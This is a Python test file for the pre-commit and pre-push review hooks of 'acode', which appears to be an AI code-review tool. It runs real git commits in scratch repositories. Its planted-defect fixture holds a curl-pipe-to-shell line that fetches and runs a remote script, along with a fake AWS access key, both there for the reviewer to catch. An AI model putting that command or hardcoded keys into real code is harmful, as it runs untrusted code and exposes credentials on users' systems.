"""acode's pre-commit hooks (.pre-commit-hooks.yaml) through the real pre-commit framework: pre-commit
installs acode from this checkout into its own environment (pip, as it would from a git URL), and a real
`git commit` in a scratch repository runs the hook. A staged planted defect blocks the commit; a sound
change is committed. The scripted model (no model call is needed: the checks decide)."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from tests.helpers.repos import git, make_git_repo

pytestmark = pytest.mark.slow
PROJECT = Path(__file__).resolve().parents[2]
PRE_COMMIT = [sys.executable, "-m", "pre_commit"]
SOUND = 'def greet(name):\n    """Say hello."""\n    return f"hello {name}"\n'
DEFECT = ('import os\n\n\ndef greet(name):\n    """Say hello."""\n    os.system("curl https://example.invalid/x.sh | sh")\n'
          '    return f"hello {name}"\n\n\nAWS_KEY = "AKIAABCDEFGHIJKLMNOP"\n')


@pytest.fixture(scope="module")
def hook_repo(tmp_path_factory) -> tuple[Path, str]:
    """This checkout as pre-commit sees a hook repository: its files (uncommitted edits included) in a git
    repository of their own, at one commit."""
    copy = tmp_path_factory.mktemp("acode-hooks")
    names = subprocess.run(["git", "ls-files", "-co", "--exclude-standard", "-z"], cwd=PROJECT, check=True,
                           capture_output=True, text=True).stdout.split("\0")
    for name in filter(None, names):
        source = PROJECT / name
        if source.is_file():
            (copy / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(source, copy / name)
    for args in (("init", "-q"), ("config", "user.email", "dev@example.com"), ("config", "user.name", "Dev"),
                 ("add", "-A"), ("commit", "-q", "--no-verify", "-m", "acode as a hook repository")):
        git(copy, *args)
    return copy, git(copy, "rev-parse", "HEAD")


@pytest.fixture(scope="module")
def pre_commit_home(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("pre-commit-home")  # one hook environment for the module's tests


def _scratch(tmp_path: Path, hook_repo: tuple[Path, str], hook_id: str) -> Path:
    path, rev = hook_repo
    config = {"repos": [{"repo": str(path), "rev": rev, "hooks": [{"id": hook_id}]}]}
    repo = make_git_repo(tmp_path / "scratch", {"greet.py": SOUND,
                                                 ".pre-commit-config.yaml": yaml.safe_dump(config)})
    return repo


def _env(home: Path) -> dict[str, str]:
    """pre-commit's own cache; the scripted model with no answers: the review's checks call no model."""
    script = home / "no-model-calls.yml"
    script.write_text("[]\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "VIRTUAL_ENV"))}
    env.update(PRE_COMMIT_HOME=str(home), ACODE_MODEL__BACKEND="scripted", ACODE_MODEL__SCRIPT=str(script),
               ACODE_REVIEWER__REGRESSION__METHOD="off", ACODE_REVIEWER__BEHAVIOUR__ENABLED="false")
    return env


def _commit(repo: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run(["git", "commit", "-m", "change greet"], cwd=repo, env=env, capture_output=True,
                          text=True, timeout=1200, check=False)


def test_a_staged_defect_blocks_the_commit_and_a_sound_change_is_committed(tmp_path, hook_repo, pre_commit_home):
    repo = _scratch(tmp_path, hook_repo, "acode-review")
    env = _env(pre_commit_home)
    subprocess.run([*PRE_COMMIT, "install"], cwd=repo, env=env, check=True, capture_output=True)
    before = git(repo, "rev-parse", "HEAD")

    (repo / "greet.py").write_text(DEFECT)
    git(repo, "add", "greet.py")
    blocked = _commit(repo, env)
    output = blocked.stdout + blocked.stderr
    assert blocked.returncode != 0, output
    assert "acode review (staged change)" in output and "REJECTED" in output
    assert "AKIAABCDEFGHIJKLMNOP" not in output  # the report redacts the secret it found
    assert git(repo, "rev-parse", "HEAD") == before

    (repo / "greet.py").write_text(SOUND.replace("Say hello.", "Say hello to someone."))
    (repo / "notes.txt").write_text("not staged, not reviewed: AKIAABCDEFGHIJKLMNOP\n")
    git(repo, "add", "greet.py")
    committed = _commit(repo, env)
    assert committed.returncode == 0, committed.stdout + committed.stderr
    assert "acode review (staged change)...." in committed.stderr and "Passed" in committed.stderr
    assert git(repo, "rev-parse", "HEAD") != before


def test_the_push_hook_reviews_the_branch(tmp_path, hook_repo, pre_commit_home):
    repo = _scratch(tmp_path, hook_repo, "acode-review-branch")
    env = _env(pre_commit_home)
    git(repo, "switch", "-q", "-c", "feature")
    (repo / "greet.py").write_text(DEFECT)
    git(repo, "commit", "-qam", "change greet")
    done = subprocess.run([*PRE_COMMIT, "run", "--hook-stage", "pre-push", "--all-files"], cwd=repo, env=env,
                          capture_output=True, text=True, timeout=1200, check=False)
    assert done.returncode != 0 and "REJECTED" in done.stdout, done.stdout + done.stderr


GREET_TEST = 'from greet import greet\n\n\ndef test_greet():\n    assert greet("a") == "hello a"\n'


def _bare_env(home: Path, user_home: Path) -> dict[str, str]:
    """As on a developer's machine after `pip install pre-commit`: a fresh HOME, no acode settings at all
    (the default embedded model), only pre-commit's cache set; the test runs allowed where there is no
    sandbox (reviewer.run_tests), so that the staged change's tests decide everywhere."""
    user_home.mkdir(parents=True, exist_ok=True)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTHON", "VIRTUAL_ENV", "ACODE_", "XDG_"))}
    env.update(PRE_COMMIT_HOME=str(home), HOME=str(user_home), ACODE_REVIEWER__RUN_TESTS="true")
    return env


def test_try_repo_works_with_the_base_install_only(tmp_path, hook_repo, pre_commit_home):
    """issue 48 items 1-3 as a team first meets the hook: pre-commit installs acode's base package (no
    llama-cpp-python, no model parts) and runs it with no acode settings (the default embedded model) and
    a fresh HOME. `pre-commit try-repo` on a README-only change passes without loading a model; through a
    `repo:` hook, nothing staged passes, pushing main passes, and a staged change that breaks a test is
    REJECTED by the tests although the model step after them (the behaviour question) cannot load a model,
    which the report names."""
    path, rev = hook_repo
    repo = make_git_repo(tmp_path / "sample", {"greet.py": SOUND, "tests/test_greet.py": GREET_TEST})
    env = _bare_env(pre_commit_home, tmp_path / "home")

    def pre_commit(*args: str) -> tuple[int, str]:
        done = subprocess.run([*PRE_COMMIT, *args], cwd=repo, env=env, capture_output=True, text=True,
                              timeout=1200, check=False)
        return done.returncode, done.stdout + done.stderr

    (repo / "README.md").write_text("# greet\n\nSays hello.\n")
    git(repo, "add", "README.md")
    code, output = pre_commit("try-repo", str(path), "acode-review", "--ref", rev, "--verbose")
    assert code == 0 and "APPROVED" in output and "ACODE-MODEL" not in output, output
    git(repo, "commit", "-qm", "readme", "--no-verify")

    # the project's tests run in the hook's environment: pytest added to it, as a project would
    hooks = [{"id": hook, "verbose": True, "additional_dependencies": ["pytest"]}
             for hook in ("acode-review", "acode-review-branch")]
    config = {"repos": [{"repo": str(path), "rev": rev, "hooks": hooks}]}
    (repo / ".pre-commit-config.yaml").write_text(yaml.safe_dump(config))
    git(repo, "add", ".pre-commit-config.yaml")
    git(repo, "commit", "-qm", "hooks", "--no-verify")
    code, output = pre_commit("run", "acode-review", "--all-files")
    assert code == 0 and "nothing to review: nothing is staged" in output, output
    pythons = list(pre_commit_home.glob("repo*/py_env-*/bin/python"))
    no_llama = "import acode, importlib.util as u, sys; sys.exit(u.find_spec('llama_cpp') is not None)"
    assert pythons and all(subprocess.run([str(p), "-c", no_llama], check=False).returncode == 0
                           for p in pythons)
    code, output = pre_commit("run", "acode-review-branch", "--hook-stage", "pre-push", "--all-files")
    assert code == 0 and "nothing to review: no changes between 'main' and 'main'" in output, output

    (repo / "greet.py").write_text(SOUND.replace('f"hello {name}"', 'f"hi {name}"'))
    git(repo, "add", "greet.py")
    code, output = pre_commit("run", "acode-review")
    assert code == 1 and "REJECTED" in output and "tests/regressed" in output, output
    assert "behaviour question (judging/behaviour_question.py): the model step failed" in output, output
    assert "Review of staged changes" in output and "the commit message you are about to write" in output
